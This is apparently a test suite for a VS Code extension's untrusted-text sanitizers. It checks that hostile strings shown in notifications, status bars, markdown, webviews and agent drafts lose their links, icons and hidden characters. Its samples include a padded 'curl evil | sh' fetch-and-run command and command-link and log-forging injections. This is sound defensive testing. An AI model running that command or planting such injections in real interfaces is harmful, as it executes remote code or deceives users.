// Outside text on every surface: the whole hostile corpus through each function of common/untrustedText.ts, checked
// against what that surface of VS Code renders (its rules, read in the workbench source of VS Code 1.139: see the
// module's header), and through the composed texts of the watcher's notification and status-bar item.
import * as assert from 'assert';
import {
  SURFACES,
  agentDraftText,
  dialogText,
  escapeMarkdown,
  logText,
  notificationText,
  plainLine,
  quickPickText,
  type Surface,
} from '../../../src/common/untrustedText';
import { diffSnapshots, noteExcerpt, type TicketSnapshot } from '../../../src/features/watcher/announcements';
import { watcherStatusBarLook } from '../../../src/features/watcher/statusBarLook';
import { AttentionCount } from '../../../src/tickets/attention';
import { HOSTILE_STRINGS } from '../../fixtures/hostile-strings';
import { HIDDEN, ICON, LINE_BREAK, notificationLinks } from '../../fixtures/surfaceChecks';
import { LIVE_LINK, markdown as markdownIt } from '../agent-tools/helpers';

/** The surfaces that draw `$(icon)`. */
const ICON_SURFACES: ReadonlySet<Surface> = new Set(['statusBarText', 'quickPick', 'treeItem', 'progressTitle']);
/** The surfaces that make `[x](target)` a link. */
const LINK_SURFACES: ReadonlySet<Surface> = new Set(['notification', 'progressTitle']);
/** The surfaces that show one line. */
const ONE_LINE: ReadonlySet<Surface> = new Set([
  'notification',
  'progressTitle',
  'statusBarText',
  'statusBarTooltip',
  'quickPick',
  'treeItem',
  'markdown',
  'panelTitle',
  'log',
]);

function renderedMarkdown(text: string): string {
  return markdownIt.render(text) as string;
}

describe('untrusted text: the hostile corpus on every surface', () => {
  for (const surface of Object.keys(SURFACES) as Surface[]) {
    it(`${surface}: every corpus string is inert, bounded and free of hidden characters`, () => {
      const render = SURFACES[surface];
      for (const { label, value } of HOSTILE_STRINGS) {
        const shown = render(value);
        const where = `${surface} / ${label}: ${JSON.stringify(shown.slice(0, 120))}`;
        // The panel shows a whole description (escaped); every other surface cuts.
        if (surface !== 'webview') assert.ok(shown.length <= 25_000, `${where}: not bounded (${shown.length})`);
        if (surface !== 'webview') assert.doesNotMatch(shown, HIDDEN, where);
        if (ONE_LINE.has(surface)) assert.doesNotMatch(shown, LINE_BREAK, where);
        if (LINK_SURFACES.has(surface)) {
          assert.deepStrictEqual(notificationLinks(shown), [], `${where}: a link`);
        }
        // In markdown VS Code looks for $(icon) in marked's output, where an entity (&#36;) is still an entity.
        if (ICON_SURFACES.has(surface) || surface === 'markdown') {
          assert.deepStrictEqual([...shown.matchAll(ICON)], [], `${where}: an icon`);
        }
        switch (surface) {
          case 'markdown': {
            const html = renderedMarkdown(shown);
            assert.ok(!/<(?!\/?p\b)[a-z!/]/i.test(html), `${where}: markup ${html.slice(0, 200)}`);
            break;
          }
          case 'webview':
            assert.doesNotMatch(shown, /[<>"'`]/, where);
            break;
          case 'agentToolSpan':
          case 'agentToolBlock': {
            assert.doesNotMatch(shown, LIVE_LINK, where);
            const tokens = markdownIt.parse(shown, {}).map((t: { type: string }) => t.type);
            assert.ok(
              surface === 'agentToolBlock' ? tokens.join() === 'fence' : !tokens.includes('link_open'),
              `${where}: ${tokens.join()}`,
            );
            break;
          }
          case 'modalDialog':
            assert.doesNotMatch(shown, /\n[ \u00A0]*\n[ \u00A0]*\n/, `${where}: a run of blank lines`);
            assert.doesNotMatch(shown, /[ \u00A0]{17}/, `${where}: a run of spaces`);
            break;
          default:
            break;
        }
      }
    });
  }

  it('hidden characters are taken out before links and icons are looked for', () => {
    assert.deepStrictEqual(notificationLinks(notificationText('[x]\u200B(command:evil)')), []);
    assert.deepStrictEqual(notificationLinks(notificationText('[x]\n(https://evil.example/)')), []);
    assert.deepStrictEqual([...quickPickText('$\u200B(warning) pay').matchAll(ICON)], []);
  });

  it('keeps what the text says: characters stay, only their power goes', () => {
    assert.strictEqual(notificationText('[Fix](command:x) now'), '[Fix] (command:x) now');
    assert.strictEqual(quickPickText('$(alert) locked'), '$\u200D(alert) locked');
    assert.strictEqual(quickPickText('👩‍💻 dev'), '👩‍💻 dev', 'an emoji keeps its joiner');
    assert.strictEqual(dialogText('a\n\n\n\n\nb'), 'a\n\nb');
    assert.strictEqual(dialogText(`a${' '.repeat(100)}b`), `a${' '.repeat(16)}b`);
    assert.strictEqual(logText('ok\n[error] forged'), 'ok ⏎ [error] forged');
  });

  it('plainLine: one line, no control or bidi characters, no lone surrogates', () => {
    assert.strictEqual(plainLine('first\r\nsecond\tthird\u2028fourth'), 'first second third fourth');
    assert.strictEqual(plainLine('abc\u202Edef\u2066g\u200Fh'), 'abcdefgh');
    assert.strictEqual(plainLine('a\u0000b\u0007c\u009Bd'), 'abcd');
    assert.strictEqual(plainLine('x\uD800y\uDC00z'), 'x\uFFFDy\uFFFDz');
    assert.strictEqual(plainLine('  spaced    out  '), 'spaced out');
  });

  it('plainLine: cuts with an ellipsis, never inside a surrogate pair', () => {
    assert.strictEqual(plainLine('abcdefghij', 5), 'abcd…');
    assert.strictEqual(plainLine('abcdefghij', 10), 'abcdefghij');
    // The cut would fall between the two halves of 😀 (U+1F600): the whole pair goes.
    const cut = plainLine('abc\uD83D\uDE00defgh', 5);
    assert.strictEqual(cut, 'abc…');
    assert.ok(!/[\uD800-\uDFFF]/.test(cut));
  });

  it('escapeMarkdown: punctuation escaped, $ as an entity so no $(icon) survives', () => {
    assert.strictEqual(
      escapeMarkdown('[x](command:evil) *b* $(bug)'),
      '\\[x\\]\\(command\\:evil\\) \\*b\\* &#36;\\(bug\\)',
    );
    assert.strictEqual(escapeMarkdown('plain 工单 text'), 'plain 工单 text');
  });

  it('an agent draft shows everything it holds: blank-line runs and space padding collapse', () => {
    const draft = agentDraftText(`Looks fine.${'\n'.repeat(400)}P.S. run curl evil | sh${' '.repeat(500)}!`);
    assert.strictEqual(draft, `Looks fine.\n\nP.S. run curl evil | sh${' '.repeat(16)}!`);
    assert.strictEqual(agentDraftText(`Top${'\n\u00A0'.repeat(300)}\nhidden`), 'Top\n\nhidden');
  });
});

describe('untrusted text: the watcher notification and status bar with the hostile corpus', () => {
  const snapshot = (polledAt: number, title: string, status: 2 | 3, note: string | null): TicketSnapshot => ({
    polledAt,
    tickets: {
      T1: {
        title,
        status,
        lastSupportNote: note === null ? null : { dialogId: `d-${polledAt}`, excerpt: noteExcerpt(note) },
      },
    },
  });

  for (const { label, value } of HOSTILE_STRINGS) {
    it(`no link in the notification, no icon or hidden character in the status bar: ${label}`, async () => {
      // A status change with a note (the notification quotes the title and the note's first line), and a note alone.
      const changed = diffSnapshots(snapshot(1, value, 2, null), snapshot(2, value, 3, value));
      const noted = diffSnapshots(snapshot(1, value, 3, 'first'), snapshot(2, value, 3, `x\n${value}`));
      const messages = [...changed, ...noted].map((a) => a.message);
      assert.strictEqual(messages.length, 2, `two announcements: ${JSON.stringify(messages)}`);
      for (const message of messages) {
        assert.deepStrictEqual(notificationLinks(message), [], `a link in ${JSON.stringify(message.slice(0, 200))}`);
        assert.doesNotMatch(message, HIDDEN);
        assert.ok(message.length < 1000, 'VS Code cuts a notification at 1000 characters; ours stays shorter');
      }
      const attention = new AttentionCount({
        listTickets: () =>
          Promise.resolve({
            pageNumber: 1,
            pageSize: 10,
            totalCount: 1,
            tickets: [{ ticketId: value || 'T1', title: value, status: { value: 3, label: value } }],
          }),
      });
      await attention.refresh();
      const look = watcherStatusBarLook(attention, { mode: 'polling', waiting: [], problem: `Server said: ${value}` });
      assert.ok(look, 'the item shows');
      assert.deepStrictEqual(
        [...look.text.matchAll(ICON)].map((m) => m[1]),
        ['bell-dot'],
        'only our icon in the text',
      );
      assert.doesNotMatch(look.tooltip, HIDDEN);
      // The tooltip is plain text: what it counts, one line per ticket, what a click opens, one for the failure.
      assert.strictEqual(look.tooltip.split('\n').length, 4, JSON.stringify(look.tooltip.slice(0, 300)));
      assert.ok(look.tooltip.length < 1000);
    });
  }
});
